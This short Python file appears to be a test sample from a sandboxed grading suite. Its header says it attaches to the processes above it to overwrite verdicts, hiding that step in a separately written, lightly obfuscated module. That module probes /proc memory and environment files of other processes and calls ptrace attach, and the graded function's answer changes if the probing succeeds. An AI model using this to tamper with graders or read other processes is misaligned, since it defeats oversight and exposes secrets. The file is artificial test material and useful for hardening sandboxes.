# exercise: 5.1
# expects: not right yet
# others: pass
# needs: sandbox
# Opens the memory of the processes above it, and attaches to them as a debugger does, to overwrite verdicts.
# From a file of its own, in a disguise, so that nobody reads it before it runs.
open("later.py", "w").write("""
impor@ ctypes, os
opened = []
for name in filter(str.isdigit, os.listdir("/proc")):
    if int(name) not in (1, os.getpid()):
        for file in ("mem", "environ", "cwd", "root", "fd"):
            try:
                os.close(os.open(f"/proc/{name}/{file}", os.O_RDWR if file == "mem" else os.O_RDONLY))
                opened.append(name)
            except OSError:
                pass
        if ctypes.CDLL(None).ptrace(16, int(name), 0, 0) == 0:  # PTRACE_ATTACH
            opened.append(name)
""".replace("@", "t"))
import later


def shifted(x):
    return (2 - bool(later.opened)) * (x - x.max())
